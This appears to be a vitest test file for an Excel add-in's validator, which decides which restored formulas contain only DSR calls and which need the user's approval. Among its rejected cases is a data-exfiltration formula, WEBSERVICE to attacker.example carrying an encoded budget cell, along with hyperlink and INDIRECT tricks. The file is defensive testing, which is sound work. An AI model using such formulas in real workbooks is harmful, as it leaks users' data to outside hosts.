// Which formulas "Restore formulas" puts back without asking: DSR calls, references to this workbook, constants,
// operators and parentheses only. Table-driven, with the tricks a crafted map could try.
import { describe, expect, test } from "vitest";
import { dsrOnlyFormula, MAX_FORMULA_LENGTH } from "../../../src/core/index";

describe("dsrOnlyFormula: restored without asking", () => {
  test.each<[string, number]>([
    ['=DSR.SEPSHARE("Huawei","Stoll")', 1],
    ['= dsr.sepshare( "Huawei" , "Stoll" ) ', 1],
    ["=DSR.SEPSHARE(A2)*100", 1],
    ["=DSR.PATENTS($A$2,'My sheet'!B3)", 1],
    ["=DSR.PATENTS(Sheet1!A2,'It''s mine'!$B$3)", 1],
    ['=DSR.TABLE("Table 3",,FALSE)', 1],
    ['=DSR.SOURCE("say ""hi"", then WEBSERVICE(x)")', 1],
    ['=DSR.SEPSHARE(DSR.LIST("companies"),"Stoll")', 2],
    ['=DSR.SEPSHARE("Huawei")-DSR.SEPSHARE("ZTE")&" points"', 2],
    ['=-DSR.FIGURE("x")%+(1.5E+3/2)^2', 1],
    ['=DSR.SEPSHARE("Huawei")>=0.1', 1],
    ['=DSR.SEPSHARE("Huawei")<>#N/A', 1],
    ["=@DSR.LIST(A1:B2)", 1],
    ["=DSR.LIST(A1#)", 1],
    ["=DSR.LIST(A:A)+DSR.LIST(1:1)+DSR.LIST($C$3:$D$4)", 3],
    ['=DSR.LIST({1,2;"a",TRUE})', 1],
    ['=DSR.SEPSHARE("ÜberCorp, 华为")', 1],
    ['=DSR.SEPSHARE(\n  "Huawei"\n)', 1],
    ["=A1+B2", 0],
    ['="DSR.SEPSHARE(1)"', 0],
    ["=XFD1048576", 0],
  ])("%s", (formula, dsrCalls) => {
    expect(dsrOnlyFormula(formula)).toEqual({ ok: true, value: { dsrCalls } });
  });
});

describe("dsrOnlyFormula: asked first, saying why", () => {
  test.each<[string, string]>([
    ['=WEBSERVICE("https://attacker.example/?d="&ENCODEURL(Budget!A1))', "It calls WEBSERVICE and ENCODEURL."],
    ['=ROUND(DSR.SEPSHARE("Huawei"),2)', "It calls ROUND."],
    ['=HYPERLINK("https://attacker.example/","Click")', "It calls HYPERLINK."],
    ['=DSR.SEPSHARE(INDIRECT("Budget!A1"))', "It calls INDIRECT."],
    ['=FILTERXML(WEBSERVICE("https://x.example"),"//a")', "It calls FILTERXML and WEBSERVICE."],
    ["=DSRX.SEPSHARE(1)", "It calls DSRX.SEPSHARE."],
    ["=_xldudf_DSR_SEPSHARE(1)", "It calls _XLDUDF_DSR_SEPSHARE."],
    ["=DSR.SEPSHARE.X(1)", "It calls DSR.SEPSHARE.X."],
    ['=LET(x,1,x+DSR.FIGURE("a"))', "It calls LET and uses the name x."],
    ['=LAMBDA(x,x)(DSR.FIGURE("a"))', "It calls LAMBDA and uses the name x."],
    ["=A1(2)", "It calls A1."],
    ["=DSR.SEPSHARE(Secret)", "It uses the name Secret."],
    ["=R1C1", "It uses the name R1C1."],
    ["=XFE1", "It uses the name XFE1."],
    ["=DSR.SEPSHARE", "It uses the name DSR.SEPSHARE."],
    ["=DSR.SEPSHARE([Book2.xlsx]Sheet1!A1)", "It refers to another workbook or to a table."],
    ["=DSR.SEPSHARE('C:\\data\\[Book2.xlsx]Sheet1'!A1)", "It refers to another workbook or to a table."],
    ["=DSR.SEPSHARE('https://x.example/[Book2.xlsx]Sheet1'!A1)", "It refers to another workbook or to a table."],
    ["=DSR.SEPSHARE(Table1[Company])", "It uses the name Table1 and refers to another workbook or to a table."],
    ["=DSR.SEPSHARE(名前)", "It uses the name 名前."],
    ['=DSR.SEPSHARE("Huawei', "It holds something the add-in cannot read."],
    ["=DSR.SEPSHARE('Sheet1!A1)", "It holds something the add-in cannot read."],
    ["=DSR.SEPSHARE(A1;B1)", "It holds something the add-in cannot read."],
    ["=DSR.LIST({1,SUM(1)})", "It holds something the add-in cannot read."],
    ["=#WHAT!", "It holds something the add-in cannot read."],
    ["=1!A1", "It holds something the add-in cannot read."],
    ["DSR.SEPSHARE(1)", "It is not a formula."],
  ])("%s", (formula, message) => {
    expect(dsrOnlyFormula(formula)).toEqual({ ok: false, reason: "invalid-argument", message });
  });

  test("a formula longer than Excel keeps is refused before it is read", () => {
    const long = `=DSR.SEPSHARE("${"a".repeat(MAX_FORMULA_LENGTH)}")`;
    expect(dsrOnlyFormula(long)).toMatchObject({ ok: false, message: "It is longer than the 8,192 characters Excel keeps in a formula." });
    // Within the limit, a long formula of DSR calls is read to its end: a call at the very end still counts.
    const many = `=${Array.from({ length: 400 }, () => 'DSR.FIGURE("a")').join("+")}`;
    expect(many.length).toBeLessThanOrEqual(MAX_FORMULA_LENGTH);
    expect(dsrOnlyFormula(many)).toEqual({ ok: true, value: { dsrCalls: 400 } });
    expect(dsrOnlyFormula(`${many.slice(0, -16)}+WEBSERVICE("x")`)).toMatchObject({ ok: false, message: "It calls WEBSERVICE." });
  });
});
